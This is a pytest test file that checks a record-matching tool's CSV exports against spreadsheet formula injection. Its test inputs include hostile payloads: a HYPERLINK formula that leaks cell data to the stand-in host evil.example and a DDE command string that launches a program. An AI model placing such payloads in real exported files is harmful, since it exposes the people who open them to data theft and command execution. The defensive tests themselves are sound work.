"""Every CSV the command line writes stores member-supplied ids as text, never as a formula.

`flask classify`, `flask match --out/--pairs/--review-out` and `python -m matching` copy the
members' record ids into their files; an id such as `=HYPERLINK(...)` or `@SUM(...)` must
not run when a coordinator opens the file in a spreadsheet program.
"""

from __future__ import annotations

import csv

import pytest

from exchange.cli.match import match_command
from matching.cli import main as matching_main
from matching.formulas import is_formula_like

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0",
           " +1+1", "\ufeff-2+3", "\t=1"]
HEADER = ["record_id", "surname", "given_name", "patronymic", "date_of_birth",
          "residence_region"]


def _write(path, ids) -> str:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER)
        for record_id in ids:
            writer.writerow([record_id, "Шевченко", "Сергій", "Іванович", "1980-01-02", "UA-43"])
    return str(path)


def _cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _assert_safe(path) -> None:
    cells = _cells(path)
    assert cells, f"{path} is empty"
    formulas = [c for c in cells if is_formula_like(c)]
    assert formulas == [], f"{path.name} has cells a spreadsheet runs: {formulas}"
    # the ids are kept, as text behind a quote
    assert any(c.startswith("'@SUM(1+1)") for c in cells)


def test_python_m_matching(tmp_path):
    a = _write(tmp_path / "a.csv", HOSTILE)
    b = _write(tmp_path / "b.csv", HOSTILE[:2])
    out, pairs = tmp_path / "clusters.csv", tmp_path / "pairs.csv"
    assert matching_main([a, b, "--out", str(out), "--pairs", str(pairs)]) == 0
    _assert_safe(out)
    _assert_safe(pairs)


def test_flask_match(runner, tmp_path):
    a = _write(tmp_path / "a.csv", HOSTILE)
    b = _write(tmp_path / "b.csv", HOSTILE[:2])
    out, pairs, review = (tmp_path / n for n in ("clusters.csv", "pairs.csv", "review.csv"))
    result = runner.invoke(match_command, [a, b, "--out", str(out), "--pairs", str(pairs),
                                           "--review-out", str(review)])
    assert result.exit_code == 0, result.output
    _assert_safe(out)
    _assert_safe(pairs)
    assert all(not is_formula_like(c) for c in _cells(review))


def test_flask_classify(app, tmp_path):
    source = _write(tmp_path / "list.csv", HOSTILE)
    out = tmp_path / "classified.csv"
    result = app.test_cli_runner().invoke(args=["classify", source, "--out", str(out)])
    assert result.exit_code == 0, result.output
    _assert_safe(out)


@pytest.mark.parametrize(("value", "formula"), [
    ("=1+1", True), ("+1", True), ("-1", True), ("@A1", True), ("|x", True), ("%x", True),
    ("\t=1", True), ("\r=1", True), ("\x00=1", True), ("  =1", True), ("\ufeff=1", True),
    ("\u00a0@1", True), ("Шевченко", False), ("ZMINA-1", False), ("1-2", False), (12, False),
])
def test_formula_triggers(value, formula):
    assert is_formula_like(value) is formula
